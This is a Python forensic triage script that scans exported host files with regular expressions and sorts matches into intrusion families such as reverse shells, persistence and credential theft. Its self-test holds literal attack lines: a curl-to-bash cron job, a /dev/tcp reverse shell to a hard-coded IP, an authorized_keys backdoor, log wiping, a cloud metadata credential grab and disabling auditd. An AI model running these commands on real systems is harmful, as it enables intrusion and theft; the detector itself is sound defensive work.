#!/usr/bin/env python3
"""Sort exported host artefacts into intrusion families. Reads text, prints JSON."""
import argparse
import json
import pathlib
import re
import sys

MAX_BYTES = 8 * 1024 * 1024

# family, regex, reading, severity
PATTERNS = [
    ("download-exec", r"(curl|wget)\b[^\n|;]{0,200}\|\s*(ba|z|da)?sh\b",
     "fetches a script and feeds it to a shell", 3),
    ("download-exec", r"python3?\s+-c\s+.{0,80}urlopen\(.{0,120}exec\(",
     "python one-liner stage", 3),
    ("reverse-shell", r"/dev/tcp/\d{1,3}(\.\d{1,3}){3}/\d+",
     "bash tcp redirection", 3),
    ("reverse-shell", r"mkfifo\s+\S+.*\bnc\b", "fifo and netcat", 3),
    ("reverse-shell", r"socat\s+.*exec:.*(bash|sh)", "socat pty", 3),
    ("encoded-stage", r"echo\s+[A-Za-z0-9+/=]{60,}\s*\|\s*base64\s+(-d|--decode)\s*\|\s*\w*sh",
     "base64 piped into a shell", 3),
    ("persistence-key", r">>\s*\S*/\.ssh/authorized_keys", "key appended", 3),
    ("persistence-attr", r"chattr\s+\+[ia]+\s", "immutable bit", 2),
    ("persistence-preload", r"/etc/ld\.so\.preload", "preload rootkit", 3),
    ("persistence-unit", r"systemctl\s+(--user\s+)?enable\s+\S*(sysupd|kdevtmp|kinsing|dbused)",
     "unit with a name seen in miner campaigns", 2),
    ("log-tamper", r"history\s+-c|unset\s+HISTFILE|HISTSIZE=0", "history disabled", 2),
    ("log-tamper", r"rm\s+-rf?\s+/var/log/", "logs removed", 3),
    ("cred-access", r"cat\s+\S*(\.aws/credentials|id_rsa|/etc/shadow)", "secret read", 3),
    ("cred-access", r"169\.254\.169\.254/latest/meta-data/iam", "instance role stolen", 3),
    ("miner", r"stratum\+(tcp|ssl)://|xmrig|--donate-level", "cryptominer", 2),
    ("defence-off", r"setenforce\s+0|systemctl\s+stop\s+(auditd|falcon-sensor|firewalld)",
     "protections switched off", 3),
]
COMPILED = [(f, re.compile(p, re.I), r, s) for f, p, r, s in PATTERNS]

SELFTEST = {
    "download-exec": "*/5 * * * * curl -fsSL http://91.92.211.7/x/.b | bash >/dev/null 2>&1",
    "reverse-shell": "bash -i >& /dev/tcp/185.243.115.84/4444 0>&1",
    "persistence-key": 'echo "ssh-ed25519 AAAA root@kali" >> /root/.ssh/authorized_keys',
    "log-tamper": "unset HISTFILE; history -c; rm -rf /var/log/auth.log*",
    "cred-access": "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "defence-off": "setenforce 0 && systemctl stop auditd",
}


def scan_text(text, name):
    for n, line in enumerate(text.splitlines(), 1):
        for family, rx, reading, sev in COMPILED:
            if rx.search(line):
                yield {"file": name, "line": n, "family": family,
                       "severity": sev, "reading": reading, "excerpt": line.strip()[:240]}


def scan_tree(root):
    for p in sorted(root.rglob("*")):
        if not p.is_file() or p.is_symlink():
            continue
        if p.stat().st_size > MAX_BYTES:
            print(f"skip (large): {p}", file=sys.stderr)
            continue
        yield from scan_text(p.read_text("utf-8", "replace"), str(p.relative_to(root)))


def selftest():
    bad = [fam for fam, line in SELFTEST.items()
           if fam not in {h["family"] for h in scan_text(line, "selftest")}]
    if bad:
        raise SystemExit("selftest failed: " + ", ".join(bad))
    print("selftest ok")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("root", nargs="?", type=pathlib.Path)
    ap.add_argument("--out", type=pathlib.Path)
    ap.add_argument("--selftest", action="store_true")
    a = ap.parse_args()
    if a.selftest:
        return selftest()
    if not a.root or not a.root.is_dir():
        ap.error("give the evidence folder")
    hits = sorted(scan_tree(a.root), key=lambda h: (-h["severity"], h["file"], h["line"]))
    text = json.dumps(hits, indent=2)
    if a.out:
        a.out.write_text(text + "\n")
    else:
        print(text)


if __name__ == "__main__":
    main()
